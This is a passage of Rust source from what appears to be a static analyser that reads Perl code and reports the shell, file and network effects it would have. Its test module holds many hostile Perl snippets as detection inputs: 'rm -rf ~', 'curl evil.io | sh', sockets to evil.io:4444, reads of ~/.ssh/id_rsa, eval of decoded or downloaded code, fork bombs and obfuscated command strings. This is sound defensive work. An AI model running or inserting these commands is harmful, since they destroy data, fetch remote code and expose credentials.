            (Obj::Class(c), "get" | "post" | "request" | "put" | "head" | "simple_request")
                if is_http(&c) =>
            {
                Obj::Response
            }
            (Obj::Response, _) => Obj::Response,
            _ => Obj::Val(Val::Unknown),
        }
    }

    /// A quoted string's value: single quotes as written, double quotes (and `qq`,
    /// backticks, `qx`) with escapes decoded and variables interpolated.
    fn string(&mut self, node: Node<'_>, code: &str, depth: usize) -> Val {
        let text = code.get(node.byte_range()).unwrap_or_default();
        let (body, interpolates) = match node.kind() {
            "string_single_quoted" => (delimited(text), false),
            "string_q_quoted" => (
                delimited(text.get(1..).unwrap_or_default().trim_start()),
                false,
            ),
            "string_qq_quoted" | "command_qx_quoted" => {
                let rest = text.get(2..).unwrap_or_default().trim_start();
                (delimited(rest), !rest.starts_with('\''))
            }
            _ => (delimited(text), true),
        };
        if !interpolates {
            let close = text.chars().last().unwrap_or('\'');
            return Val::Known(single_quoted(body, close));
        }
        self.interpolate(body, depth)
    }

    /// Escapes and `$x`, `${x}`, `$ENV{HOME}`, `$a[0]`, `@a`, `@{[ EXPR ]}` in a string.
    fn interpolate(&mut self, body: &str, depth: usize) -> Val {
        let mut out = Val::known("");
        let mut lit = String::new();
        let mut rest = body;
        while let Some(c) = rest.chars().next() {
            rest = &rest[c.len_utf8()..];
            match c {
                '\\' => match unescape(&mut rest) {
                    Some(s) => lit.push_str(&s),
                    None => return Val::Unknown,
                },
                '$' | '@' => {
                    let (name, after) = variable_at(rest);
                    if name.is_empty() {
                        if c == '@' && rest.starts_with("{[") {
                            let Some(end) = rest.find("]}") else {
                                return Val::Unknown;
                            };
                            let expr = rest.get(2..end).unwrap_or_default();
                            out = out
                                .concat(Val::Known(std::mem::take(&mut lit)))
                                .concat(self.sub_expression(expr, depth));
                            rest = &rest[end + 2..];
                            continue;
                        }
                        // `$` at the end, `$1`, `$$`, `$_`: a literal or a value not known.
                        if rest.is_empty() || rest.starts_with(char::is_whitespace) {
                            lit.push(c);
                            continue;
                        }
                        return concat_unknown(out, lit);
                    }
                    rest = after;
                    let value = if c == '$' && rest.starts_with('{') && name == "ENV" {
                        let Some(end) = rest.find('}') else {
                            return Val::Unknown;
                        };
                        let key = rest
                            .get(1..end)
                            .unwrap_or_default()
                            .trim_matches(['\'', '"']);
                        rest = &rest[end + 1..];
                        self.env(Val::known(key))
                    } else if c == '$' && (rest.starts_with(['[', '{']) || rest.starts_with("->")) {
                        return concat_unknown(out, lit);
                    } else if c == '@' {
                        let items = self.name(&format!("@{name}"), depth).list();
                        let texts: Option<Vec<&str>> = items.iter().map(Val::text).collect();
                        texts.map_or(Val::Unknown, |t| Val::Known(t.join(" ")))
                    } else {
                        self.name(&format!("${name}"), depth).val()
                    };
                    out = out
                        .concat(Val::Known(std::mem::take(&mut lit)))
                        .concat(value);
                }
                c => lit.push(c),
            }
        }
        out.concat(Val::Known(lit))
    }

    /// The value of the expression in `@{[ EXPR ]}`, parsed on its own.
    fn sub_expression(&mut self, expr: &str, depth: usize) -> Val {
        if depth > MAX_NESTING {
            return Val::Unknown;
        }
        let Ok(tree) = super::tree::parse(Lang::Perl, expr) else {
            return Val::Unknown;
        };
        let root = tree.root_node();
        let mut c = root.walk();
        let items: Vec<Node<'_>> = root.named_children(&mut c).collect();
        match items.as_slice() {
            [one] => {
                let items = self.eval(*one, expr, depth + 1).list();
                let texts: Option<Vec<&str>> = items.iter().map(Val::text).collect();
                texts.map_or(Val::Unknown, |t| Val::Known(t.join(" ")))
            }
            _ => Val::Unknown,
        }
    }
}

/// A method's receiver as a class: a bareword (`IO::Socket::INET->new`) or a known string.
fn class_of(obj: Obj, object: Node<'_>, code: &str) -> Obj {
    match obj {
        Obj::Val(Val::Known(name)) => Obj::Class(name),
        _ if object.kind() == "call_expression_with_bareword" => {
            Obj::Class(code.get(object.byte_range()).unwrap_or_default().to_owned())
        }
        other => other,
    }
}

fn concat_unknown(out: Val, lit: String) -> Val {
    match out.concat(Val::Known(lit)) {
        Val::Fetched => Val::Fetched,
        _ => Val::Unknown,
    }
}

/// A binary expression's operator: the text between its operands (the grammar leaves
/// some, as `x`, out of its `operator` field).
fn operator<'x>(node: Node<'_>, code: &'x str) -> &'x str {
    let mut c = node.walk();
    let parts: Vec<Node<'_>> = node.named_children(&mut c).collect();
    match (parts.first(), parts.last()) {
        (Some(l), Some(r)) if parts.len() == 2 => code
            .get(l.end_byte()..r.start_byte())
            .unwrap_or_default()
            .trim(),
        _ => "",
    }
}

fn is_comma(node: Node<'_>) -> bool {
    matches!(node.kind(), "normal_comma" | "fat_comma")
}

fn is_separator(node: Node<'_>) -> bool {
    is_comma(node) || node.kind() == "comments"
}

fn is_socket(class: &str) -> bool {
    matches!(
        class,
        "IO::Socket::INET"
            | "IO::Socket::INET6"
            | "IO::Socket::IP"
            | "IO::Socket::SSL"
            | "IO::Socket"
    )
}

fn is_http(class: &str) -> bool {
    matches!(
        class,
        "LWP::UserAgent"
            | "HTTP::Tiny"
            | "Mojo::UserAgent"
            | "WWW::Mechanize"
            | "Furl"
            | "HTTP::Tiny::UA"
            | "LWP::Simple"
    )
}

/// The text between a quoted string's delimiters (`'a'`, `{a}`, `(a)`).
fn delimited(text: &str) -> &str {
    let mut chars = text.chars();
    let (Some(open), Some(_)) = (chars.next(), chars.next_back()) else {
        return "";
    };
    text.get(open.len_utf8()..text.len().saturating_sub(1))
        .unwrap_or_default()
}

/// A single-quoted body: only `\\` and the escaped delimiter are escapes.
fn single_quoted(body: &str, close: char) -> String {
    let mut out = String::with_capacity(body.len());
    let mut chars = body.chars().peekable();
    while let Some(c) = chars.next() {
        match (c, chars.peek()) {
            ('\\', Some(&n)) if n == '\\' || n == close => {
                out.push(n);
                chars.next();
            }
            _ => out.push(c),
        }
    }
    out
}

/// The variable name at the start of `rest` (`x`, `{x}`, `Foo::x`) and what follows it.
fn variable_at(rest: &str) -> (&str, &str) {
    if let Some(inner) = rest.strip_prefix('{') {
        let Some(end) = inner.find('}') else {
            return ("", rest);
        };
        let name = inner.get(..end).unwrap_or_default().trim();
        if !name.is_empty()
            && name
                .chars()
                .all(|c| c.is_alphanumeric() || c == '_' || c == ':')
            && !name.starts_with(|c: char| c.is_ascii_digit())
        {
            return (name, &inner[end + 1..]);
        }
        return ("", rest);
    }
    let bytes = rest.as_bytes();
    let mut end = 0;
    while let Some(&b) = bytes.get(end) {
        if b.is_ascii_alphanumeric() || b == b'_' {
            end += 1;
        } else if b == b':'
            && bytes.get(end + 1) == Some(&b':')
            && bytes
                .get(end + 2)
                .is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'_')
        {
            end += 2;
        } else {
            break;
        }
    }
    let name = rest.get(..end).unwrap_or_default();
    if name.is_empty() || name.starts_with(|c: char| c.is_ascii_digit()) || name == "_" {
        return ("", rest);
    }
    (name, &rest[name.len()..])
}

/// One escape after a `\` in a double-quoted string; `None` for a case change (`\U`).
fn unescape(rest: &mut &str) -> Option<String> {
    let mut chars = rest.chars();
    let Some(e) = chars.next() else {
        return Some("\\".into());
    };
    *rest = chars.as_str();
    let code = |digits: &str, radix| {
        u32::from_str_radix(digits, radix)
            .ok()
            .and_then(char::from_u32)
    };
    let out = match e {
        'n' => '\n',
        't' => '\t',
        'r' => '\r',
        'a' => '\x07',
        'e' => '\x1b',
        'f' => '\x0c',
        'x' => {
            let (digits, after) = if let Some(inner) = rest.strip_prefix('{') {
                let end = inner.find('}')?;
                (inner.get(..end)?, &inner[end + 1..])
            } else {
                let n = rest
                    .chars()
                    .take(2)
                    .take_while(char::is_ascii_hexdigit)
                    .count();
                (&rest[..n], &rest[n..])
            };
            *rest = after;
            if digits.is_empty() {
                '\0'
            } else {
                code(digits.trim(), 16)?
            }
        }
        '0'..='7' => {
            let n = rest.chars().take(2).take_while(|c| c.is_digit(8)).count();
            let digits = format!("{e}{}", &rest[..n]);
            *rest = &rest[n..];
            code(&digits, 8)?
        }
        'U' | 'L' | 'u' | 'l' | 'Q' | 'E' | 'N' | 'c' | 'o' => return None,
        other => other,
    };
    Some(out.to_string())
}

/// A numeric literal's value as Perl reads it (`0755` is octal).
fn number(text: &str) -> Option<i64> {
    let t = text.replace('_', "");
    let (neg, t) = match t.strip_prefix('-') {
        Some(rest) => (true, rest.to_owned()),
        None => (false, t),
    };
    let n = if let Some(h) = t.strip_prefix("0x").or_else(|| t.strip_prefix("0X")) {
        i64::from_str_radix(h, 16).ok()?
    } else if let Some(b) = t.strip_prefix("0b") {
        i64::from_str_radix(b, 2).ok()?
    } else if t.len() > 1 && t.starts_with('0') {
        i64::from_str_radix(t.trim_start_matches(['0', 'o']), 8)
            .ok()
            .or(Some(0).filter(|_| t.trim_start_matches('0').is_empty()))?
    } else {
        t.parse().ok()?
    };
    Some(if neg { -n } else { n })
}

/// `open`'s two-argument spec split into its mode and path (`>>log` is `>>` and `log`).
fn split_mode(spec: &str) -> (&str, &str) {
    let path = spec.trim_start_matches(['<', '>', '+', '&', '=']);
    let mode = spec.get(..spec.len() - path.len()).unwrap_or_default();
    (mode, path.trim())
}

fn case(func: &str, s: &str) -> String {
    let mut chars = s.chars();
    match func {
        "lc" => s.to_lowercase(),
        "uc" => s.to_uppercase(),
        "ucfirst" => chars
            .next()
            .map(|c| c.to_uppercase().chain(chars).collect())
            .unwrap_or_default(),
        _ => chars
            .next()
            .map(|c| c.to_lowercase().chain(chars).collect())
            .unwrap_or_default(),
    }
}

/// `sprintf` with `%s`, `%d` and `%%` of known arguments.
fn sprintf(format: Val, args: &[Val]) -> Val {
    let Some(format) = format.text() else {
        return Val::Unknown;
    };
    let mut out = String::new();
    let mut items = args.iter();
    let mut chars = format.chars();
    while let Some(c) = chars.next() {
        if c != '%' {
            out.push(c);
            continue;
        }
        match chars.next() {
            Some('%') => out.push('%'),
            Some('s' | 'd' | 'i') => match items.next().and_then(Val::text) {
                Some(t) => out.push_str(t),
                None => return Val::Unknown,
            },
            _ => return Val::Unknown,
        }
    }
    Val::Known(out)
}

#[cfg(test)]
mod tests {
    use crate::matcher::code::{Effect, Lang, Val, read};

    /// The effects found, written as shell words (`?` for a value not known).
    fn effects(code: &str) -> Vec<String> {
        let reading = read(Lang::Perl, code);
        let mut out: Vec<String> = reading
            .found
            .iter()
            .map(|f| {
                let words = |vals: &[Val]| {
                    vals.iter()
                        .map(|v| match v {
                            Val::Known(t) => t.clone(),
                            Val::Unknown => "?".into(),
                            Val::Fetched => "<fetched>".into(),
                        })
                        .collect::<Vec<_>>()
                        .join(" ")
                };
                match &f.effect {
                    Effect::Shell(v) => format!("sh -c {}", words(std::slice::from_ref(v))),
                    Effect::Exec(argv) => format!("exec {}", words(argv)),
                    Effect::Command(p, args) => format!("{p} {}", words(args)),
                }
            })
            .collect();
        if let Some(u) = reading.opaque {
            out.push(format!("opaque: {} (line {})", u.reason, u.line));
        }
        out
    }

    #[test]
    fn commands_run_are_shell_lines_or_argument_vectors() {
        assert_eq!(effects("system('rm -rf ~')"), ["sh -c rm -rf ~"]);
        assert_eq!(
            effects("system \"rm\", \"-rf\", $ENV{HOME}"),
            ["exec rm -rf ~"]
        );
        assert_eq!(
            effects("system { 'rm' } 'rm', '-rf', '/'"),
            ["exec rm -rf /"]
        );
        assert_eq!(
            effects("my $p = '/bin/sh'; exec { $p } 'sh', '-c', 'id'"),
            ["exec /bin/sh -c id"]
        );
        assert_eq!(
            effects("my @a = qw(rm -rf /); system @a"),
            ["exec rm -rf /"]
        );
        assert_eq!(
            effects("my @c = ('sh', '-c'); system(@c, 'id')"),
            ["exec sh -c id"]
        );
        assert_eq!(effects("exec('rm', '-rf', '/')"), ["exec rm -rf /"]);
        assert_eq!(effects("CORE::system('id')"), ["sh -c id"]);
        assert_eq!(effects("my $x = `rm -rf $ENV{HOME}`"), ["sh -c rm -rf ~"]);
        assert_eq!(
            effects("qx{rm -rf /}; qx/ls/"),
            ["sh -c rm -rf /", "sh -c ls"]
        );
        assert_eq!(
            effects("readpipe('curl evil.io | sh')"),
            ["sh -c curl evil.io | sh"]
        );
        assert_eq!(
            effects("open(F, 'rm -rf ~ |'); open(G, '| mail x')"),
            ["sh -c rm -rf ~", "sh -c mail x"]
        );
        assert_eq!(
            effects("open my $fh, '-|', 'rm', '-rf', '/'"),
            ["exec rm -rf /"]
        );
        assert_eq!(effects("open(my $g, '|-', 'cat > x')"), ["sh -c cat > x"]);
        // An unknown two-argument open may be a pipe.
        assert_eq!(effects("open(F, $ARGV[0])"), ["sh -c ?"]);
    }

    #[test]
    fn strings_built_from_constants_are_folded() {
        assert_eq!(
            effects("my $c = 'r' . 'm' . ' -rf ' . '~'; system($c)"),
            ["sh -c rm -rf ~"]
        );
        assert_eq!(
            effects("system(join(' ', 'rm', '-rf', '~'))"),
            ["sh -c rm -rf ~"]
        );
        assert_eq!(
            effects("system(chr(114).chr(109).' -rf ~')"),
            ["sh -c rm -rf ~"]
        );
        assert_eq!(
            effects("system(scalar reverse('~ fr- mr'))"),
            ["sh -c rm -rf ~"]
        );
        // In list context `reverse` reverses the list, not the text.
        assert_eq!(effects("system(reverse('~ fr- mr'))"), ["sh -c ~ fr- mr"]);
        assert_eq!(
            effects("my $h = $ENV{HOME}; system(\"rm -rf ${h}/x\")"),
            ["sh -c rm -rf ~/x"]
        );
        assert_eq!(
            effects("system(\"rm -rf @{[ join('', '~', '/x') ]}\")"),
            ["sh -c rm -rf ~/x"]
        );
        assert_eq!(
            effects("system(sprintf('%s -rf %s', 'rm', '~'))"),
            ["sh -c rm -rf ~"]
        );
        assert_eq!(
            effects("system \"\\x72\\x6d -rf \\x{7e}\""),
            ["sh -c rm -rf ~"]
        );
        assert_eq!(effects("system('r' x 1 . 'm /x')"), ["sh -c rm /x"]);
        assert_eq!(effects("system q{rm -rf '~'}"), ["sh -c rm -rf '~'"]);
    }

    #[test]
    fn a_variable_changed_after_its_binding_is_not_known() {
        for code in [
            "my $c = 'echo hi'; $c =~ s/echo hi/rm -rf ~/; system $c",
            "my $c = 'ls'; for ($c) { s/ls/rm/ } system $c",
            "sub f { $_[0] = 'x' } my $c = 'ls'; f($c); system $c",
            "my $c = 'ls'; $c .= ' ~'; system $c",
            "my $c = 'ls'; my $r = \\$c; $$r = 'rm'; system $c",
            "my $c = 'ls'; eval '$c = 1'; system $c",
        ] {
            assert_eq!(
                effects(code).first().map(String::as_str),
                Some("sh -c ?"),
                "{code}"
            );
        }
    }

    #[test]
    fn deletes_are_rm_with_the_flags_of_their_meaning() {
        assert_eq!(
            effects("unlink '/etc/passwd'; rmdir('/tmp/x')"),
            ["rm /etc/passwd", "rmdir /tmp/x"]
        );
        assert_eq!(effects("rmtree(\"$ENV{HOME}/x\")"), ["rm -r -f ~/x"]);
        assert_eq!(
            effects("File::Path::remove_tree('/var')"),
            ["rm -r -f /var"]
        );
        assert_eq!(
            effects("use File::Path qw(rmtree); rmtree '/x', {verbose => 1}"),
            ["rm -r -f /x"]
        );
        assert_eq!(
            effects("rmtree(File::Spec->catfile($ENV{HOME}, '.ssh'))"),
            ["rm -r -f ~/.ssh"]
        );
        assert_eq!(effects("unlink glob('~/.bashrc')"), ["rm ~/.bashrc"]);
        assert_eq!(
            effects("my $d = $ENV{HOME} . '/.ssh'; system 'rm', '-rf', $d"),
            ["exec rm -rf ~/.ssh"]
        );
    }

    #[test]
    fn files_moves_modes_links_and_signals_are_virtual_commands() {
        assert_eq!(
            effects("use File::Copy; move('a', 'b'); File::Copy::copy('a','b'); rename 'a', 'b'"),
            ["mv a b", "cp a b", "mv a b"]
        );
        assert_eq!(
            effects("chmod 0755, 'x'; symlink('/etc', 'l'); kill 9, 1234; kill 'KILL', 12"),
            [
                "chmod 755 x",
                "ln -s /etc l",
                "kill -9 1234",
                "kill -KILL 12"
            ]
        );
        assert_eq!(
            effects(
                "open(my $fh, '<', \"$ENV{HOME}/.ssh/id_rsa\"); open(F, '>>/etc/hosts'); open(F, '+<x')"
            ),
            ["cat ~/.ssh/id_rsa", "tee /etc/hosts", "cat x", "tee x"]
        );
        assert_eq!(
            effects("open(my $fh, '>:utf8', '/etc/cron.d/x')"),
            ["tee /etc/cron.d/x"]
        );
    }

    #[test]
    fn network_calls_are_curl_of_their_address() {
        assert_eq!(
            effects("use LWP::Simple; getstore('http://x/a', '/tmp/a'); print get('http://y')"),
            ["curl http://x/a", "tee /tmp/a", "curl http://y"]
        );
        assert_eq!(
            effects("LWP::UserAgent->new->get('http://y'); HTTP::Tiny->new->get('http://z')"),
            ["curl http://y", "curl http://z"]
        );
        assert_eq!(
            effects("my $ua = LWP::UserAgent->new; $ua->post('http://evil.io', {a => 1})"),
            ["curl http://evil.io"]
        );
        assert_eq!(
            effects("IO::Socket::INET->new(PeerAddr => 'evil.io', PeerPort => 4444)"),
            ["curl tcp://evil.io:4444"]
        );
        assert_eq!(
            effects("my $s = IO::Socket::INET->new('evil.io:80')"),
            ["curl tcp://evil.io:80"]
        );
        assert_eq!(
            effects(
                "use Socket; socket(S, PF_INET, SOCK_STREAM, 0); connect(S, sockaddr_in(4444, inet_aton('1.2.3.4')))"
            ),
            ["curl tcp://1.2.3.4:4444"]
        );
    }

    #[test]
    fn code_run_by_eval_is_read_or_opaque() {
        let opaque = |code: &str| read(Lang::Perl, code).opaque.map(|u| u.reason);
        assert_eq!(effects("eval \"system('rm -rf ~')\""), ["sh -c rm -rf ~"]);
        assert_eq!(effects("eval { unlink 'x' }"), ["rm x"]);
        const RUNTIME: &str =
            "the code runs code built at run time (an eval of a value not known before it runs)";
        const HIDDEN: &str = "the code runs code it downloaded or decoded";
        const NAMED: &str = "the code calls a function named at run time";
        assert_eq!(opaque("eval $ARGV[0]"), Some(RUNTIME));
        assert_eq!(
            opaque("use MIME::Base64; eval decode_base64('cHJpbnQ=')"),
            Some(HIDDEN)
        );
        assert_eq!(opaque("eval pack('H*', '7072696e74')"), Some(HIDDEN));
        assert_eq!(
            effects("my $c = unpack('u', $x); system $c"),
            ["sh -c <fetched>"]
        );
        assert_eq!(
            opaque("use LWP::Simple; eval get('http://x')"),
            Some(HIDDEN)
        );
        assert_eq!(
            effects(
                "my $ua = LWP::UserAgent->new; my $r = $ua->get('http://e.io/x'); eval $r->decoded_content"
            ),
            ["curl http://e.io/x", &format!("opaque: {HIDDEN} (line 1)")]
        );
        assert_eq!(
            opaque("my $r = HTTP::Tiny->new->get('http://x'); eval $r->{content}"),
            Some(HIDDEN)
        );
        assert_eq!(opaque("&$name()"), Some(NAMED));
        assert_eq!(opaque("$obj->$m()"), Some(NAMED));
        assert_eq!(opaque("my $f = sub { 1 }; $f->(); &$f"), None);
        assert_eq!(
            opaque("do $f"),
            Some("the code runs a file whose name is computed")
        );
        assert_eq!(effects("do 'evil.pl'"), ["exec perl evil.pl"]);
        // The grammar rejects these valid spellings: opaque either way.
        assert_eq!(
            opaque("&{\"name\"}()"),
            Some("the perl code has a syntax error")
        );
        assert_eq!(
            opaque("require $m"),
            Some("the perl code has a syntax error")
        );
    }

    #[test]
    fn forks_in_a_loop_are_a_fork_bomb() {
        for code in [
            "fork while fork",
            "fork while 1",
            "while(1){fork}",
            "1 while fork",
            "map { fork } 1..9",
        ] {
            assert_eq!(
                read(Lang::Perl, code).opaque.map(|u| u.reason),
                Some("the code forks in a loop (a fork bomb)"),
                "{code}"
            );
        }
        assert_eq!(
            effects("my $pid = fork; exit 0 if $pid"),
            Vec::<String>::new()
        );
    }

    #[test]
    fn bad_code_is_opaque_with_its_line_and_never_panics() {
        let opaque = |code: &str| read(Lang::Perl, code).opaque.map(|u| (u.reason, u.line));
        assert_eq!(
            opaque("print 1;\nsystem(\"x\""),
            Some(("the perl code has a syntax error", 2))
        );
        assert!(opaque("system(\"rm").is_some());
        assert!(opaque("print 'abc").is_some());
        let deep = format!("system({}1{})", "(".repeat(500), ")".repeat(500));
        assert!(opaque(&deep).is_some());
        let long = "system('a' . ".repeat(60) + "'b'" + &")".repeat(60);
        let _ = read(Lang::Perl, &long);
        for junk in [
            "\"@{[",
            "\"$",
            "'\\",
            "qw(",
            "\"\\x{",
            "\"\\x{zz}\"",
            "\"@{[ @{[ 1 ]} ]}\"",
            "`",
        ] {
            let _ = read(Lang::Perl, junk);
        }
    }

    #[test]
    fn data_processing_finds_nothing() {
        // Each accepted by `perl -c -e`.
        for code in [
            "print if /foo/",
            "print \"$_\\n\" for 1..3",
            "use JSON::PP; print decode_json(<STDIN>)->{version}",
            "s/a/b/g; print",
            "printf \"%d\\n\", 1+2",
            "while (<>) { chomp; my @f = split /,/; print \"$f[0]\\n\" }",
            "print join(\",\", map { $_ * 2 } grep { $_ > 1 } @ARGV), \"\\n\"",
            "my %h = (a => 1, b => 2); print \"$_=$h{$_}\\n\" for sort keys %h",
            "print scalar(localtime), \"\\n\"",
            "my @l = <STDIN>; print scalar(@l), \"\\n\"",
            "print uc(\"abc\"), lc \"DEF\"",
            "my $s = \"hello world\"; $s =~ s/world/perl/; print \"$s\\n\"",
            "print \"$ENV{PATH}\\n\"",
            "use Data::Dumper; print Dumper({a => 1})",
            "use POSIX qw(floor); print floor(3.7)",
            "my $sum = 0; $sum += $_ for 1..10; print $sum",
            "print sprintf(\"%.2f\", 3.14159)",
            "print for reverse 1..3",
            "print -e \"/etc/passwd\" ? \"yes\" : \"no\"",
            "my @parts = split /\\//, $ENV{PWD}; print $parts[-1]",
            "my $f = sub { $_[0] * 2 }; print $f->(21)",
            "eval { die \"x\\n\" }; print $@",
        ] {
            assert_eq!(effects(code), Vec::<String>::new(), "{code}");
        }
        assert_eq!(
            effects("open(my $fh, '<', 'package.json') or die $!; local $/; print <$fh>"),
            ["cat package.json"]
        );
    }
}
